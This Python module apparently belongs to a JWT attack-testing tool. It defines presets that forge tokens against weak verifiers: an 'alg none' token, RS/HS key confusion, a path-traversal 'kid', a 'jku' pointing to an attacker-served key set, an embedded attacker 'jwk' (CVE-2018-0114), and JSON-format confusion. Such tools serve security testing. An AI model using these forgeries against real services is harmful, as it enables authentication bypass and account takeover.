"""The presets of `vulnerability`: attacks that are real, by whoever could really carry them out."""

from collections.abc import Mapping

from joserfc.jwk import OctKey

from .attacker import JWKS_PATH
from .errors import RequestError
from .plan import Change, Plan, Workshop
from .signing import SigningKey

NULL_DEVICE = "../../../../../../dev/null"


def _alg_none(plan: Plan, shop: Workshop) -> None:
    """No signature, and an `alg` that says so (RFC 8725 section 2.1)."""
    given = plan.header.get("alg")
    is_none = isinstance(given, str) and given.lower() == "none"
    plan.header["alg"] = shop.asked.alg_none_variant or (given if is_none else "none")
    plan.signature = False if plan.signature is True else plan.signature


def _rs_hs_confusion(plan: Plan, shop: Workshop) -> None:
    """An HMAC keyed with the public key's PEM, for a verifier that lets the token choose the algorithm."""
    key = plan.key.private_key
    if isinstance(key, OctKey):
        raise RequestError('"vulnerability": "rs_hs_confusion" needs a key pair: choose another "algorithm".')
    plan.key = SigningKey.from_secret(key.as_pem(private=False), "HS256", kid=plan.key.kid)
    plan.header["alg"] = "HS256"


def _kid_traversal(plan: Plan, shop: Workshop) -> None:
    """A `kid` that is a path, for a verifier that reads keys from files."""
    plan.header.setdefault("kid", NULL_DEVICE)


def _jku_injection(plan: Plan, shop: Workshop) -> None:
    """The attacker's signature, and a `jku` where their key set is really served."""
    plan.key = shop.attacker.key
    plan.header.setdefault("jku", shop.here.server + JWKS_PATH)


def _embedded_jwk(plan: Plan, shop: Workshop) -> None:
    """The attacker's signature, and their public key in the header (CVE-2018-0114)."""
    plan.key = shop.attacker.key
    plan.header.setdefault("jwk", shop.attacker.jwk)


def _format_confusion(plan: Plan, shop: Workshop) -> None:
    """A token that is JSON where a compact one is due."""
    plan.format = "flattened" if plan.format == "compact" else plan.format


VULNERABILITIES: Mapping[str, Change] = {
    "alg_none": _alg_none,
    "rs_hs_confusion": _rs_hs_confusion,
    "kid_traversal": _kid_traversal,
    "jku_injection": _jku_injection,
    "embedded_jwk": _embedded_jwk,
    "format_confusion": _format_confusion,
}
"""The presets by name; they come before the modes."""
